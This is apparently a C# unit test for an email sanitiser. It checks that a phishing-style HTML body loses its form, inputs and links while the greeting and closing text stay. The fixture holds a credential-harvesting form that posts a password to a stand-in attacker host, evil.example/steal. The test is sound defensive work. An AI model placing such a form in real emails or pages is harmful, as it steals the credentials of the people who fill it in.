using Samsara.Core.Templates;

namespace Samsara.Tests.Templates;

public sealed class EmailBodySanitiserTests
{
    [Fact]
    public void FromRendered_HtmlWithAPasswordForm_DropsTheFormAndItsInputsKeepsTheText()
    {
        const string phishing = """
            <p>Hi Ana,</p>
            <form action="https://evil.example/steal" method="post">
              <label>Password</label><input type="password" name="p"><select name="s"><option>1</option></select>
              <textarea name="t">x</textarea><button type="submit" formaction="https://evil.example">Log in</button>
            </form>
            <p>Thanks</p>
            """;

        var body = EmailBody.FromRendered(phishing, isHtml: true);

        foreach (var tag in new[] { "<form", "<input", "<button", "<select", "<textarea", "<label", "action=", "evil.example" })
        {
            Assert.DoesNotContain(tag, body.Html, StringComparison.OrdinalIgnoreCase);
        }

        Assert.Contains("<p>Hi Ana,</p>", body.Html, StringComparison.Ordinal);
        Assert.Contains("Thanks", body.Text, StringComparison.Ordinal);
    }
}
